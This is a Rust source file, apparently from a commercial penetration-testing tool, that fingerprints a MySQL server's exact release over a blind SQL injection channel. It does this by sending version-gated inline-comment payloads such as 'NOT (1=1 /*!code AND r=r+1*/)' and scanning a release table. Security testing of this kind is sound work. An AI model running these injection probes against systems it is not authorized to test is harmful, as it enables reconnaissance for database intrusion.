// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - Comment Injection Version Scan
 * Locates the exact release through version-gated inline comments
 *
 * MySQL executes a version-gated inline comment only when its own release
 * is at least the code carried by the comment.
 * Walking the known release table in ascending order, the predicate below
 * holds for every code the engine has reached and fails at the first code
 * it has not; the previous code is the running release.
 *
 * @copyright 2026 Bountyy Oy
 * @license Proprietary
 */

use super::mysql::MYSQL_VERSION_RANGES;
use super::probe::fresh_int;
use crate::errors::{FingerprintError, FingerprintResult};
use crate::oracle::Oracle;
use crate::types::{VersionBracket, VersionCode, VersionRange};
use serde::{Deserialize, Serialize};
use tracing::{debug, info, warn};

/// Plain inline comment; false means the channel strips or breaks comments
pub const COMMENT_PRECHECK: &str = "1=1 /* NoValue */";

/// Outcome of one scan
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct RangeScan {
    pub bracket: VersionBracket,
    pub oracle_calls: usize,
    /// False when the oracle failed mid-scan
    pub complete: bool,
}

/// Predicate that holds while the engine executes the gated fragment,
/// i.e. while its release is at least `code`
pub fn gated_predicate(code: VersionCode, r: u32) -> String {
    format!("NOT (1=1 /*!{} AND {}={}*/)", code.value(), r, r + 1)
}

/// Ranges must be well-formed, ascending and pairwise disjoint
pub fn validate_ranges(ranges: &[VersionRange]) -> FingerprintResult<()> {
    for range in ranges {
        if range.lower > range.upper {
            return Err(FingerprintError::InvalidVersionRange {
                lower: range.lower.value(),
                upper: range.upper.value(),
                reason: "lower bound exceeds upper bound".to_string(),
            });
        }
    }

    for pair in ranges.windows(2) {
        if pair[1].lower <= pair[0].upper {
            return Err(FingerprintError::InvalidVersionRange {
                lower: pair[1].lower.value(),
                upper: pair[1].upper.value(),
                reason: format!(
                    "overlaps or precedes {}-{}",
                    pair[0].lower.value(),
                    pair[0].upper.value()
                ),
            });
        }
    }

    Ok(())
}

pub struct VersionRangeProbe {
    ranges: Vec<VersionRange>,
}

impl VersionRangeProbe {
    pub fn new(ranges: Vec<VersionRange>) -> FingerprintResult<Self> {
        validate_ranges(&ranges)?;
        Ok(Self { ranges })
    }

    /// Probe over the built-in MySQL release table
    pub fn mysql() -> Self {
        Self {
            ranges: MYSQL_VERSION_RANGES.to_vec(),
        }
    }

    pub fn ranges(&self) -> &[VersionRange] {
        &self.ranges
    }

    pub async fn comment_support<O: Oracle + ?Sized>(&self, oracle: &O) -> FingerprintResult<bool> {
        oracle.evaluate(COMMENT_PRECHECK).await
    }

    /// Pre-check comment support, then scan
    pub async fn run<O: Oracle + ?Sized>(&self, oracle: &O) -> FingerprintResult<RangeScan> {
        info!("[VersionRangeProbe] Executing comment injection fingerprint");

        if !self.comment_support(oracle).await? {
            warn!("[VersionRangeProbe] Comment injection fingerprint not available");
            return Ok(RangeScan {
                bracket: VersionBracket::Unknown,
                oracle_calls: 1,
                complete: true,
            });
        }

        let mut scan = self.scan(oracle).await?;
        scan.oracle_calls += 1;
        Ok(scan)
    }

    /// Ascending scan over every range; stops at the first boundary found
    pub async fn scan<O: Oracle + ?Sized>(&self, oracle: &O) -> FingerprintResult<RangeScan> {
        let mut last_true: Option<VersionCode> = None;
        let mut calls = 0usize;

        for range in &self.ranges {
            for code in range.codes() {
                calls += 1;
                let predicate = gated_predicate(code, fresh_int());

                let holds = match oracle.evaluate(&predicate).await {
                    Ok(holds) => holds,
                    Err(e) if e.is_oracle_unavailable() => match last_true {
                        Some(reached) => {
                            warn!(
                                "[VersionRangeProbe] Oracle failed at {} after {} calls, keeping '>= {}'",
                                code, calls, reached
                            );
                            return Ok(RangeScan {
                                bracket: VersionBracket::at_least(reached.value()),
                                oracle_calls: calls,
                                complete: false,
                            });
                        }
                        None => return Err(e),
                    },
                    Err(e) => return Err(e),
                };

                debug!("[VersionRangeProbe] {} => {}", code, holds);

                if holds {
                    last_true = Some(code);
                    continue;
                }

                let bracket = match last_true {
                    Some(reached) => VersionBracket::exact(reached.value()),
                    None => VersionBracket::below(code.value()),
                };

                info!(
                    "[VersionRangeProbe] Boundary at {} after {} calls: {}",
                    code, calls, bracket
                );

                return Ok(RangeScan {
                    bracket,
                    oracle_calls: calls,
                    complete: true,
                });
            }
        }

        debug!("[VersionRangeProbe] No boundary within the release table");

        Ok(RangeScan {
            bracket: VersionBracket::Unknown,
            oracle_calls: calls,
            complete: true,
        })
    }
}
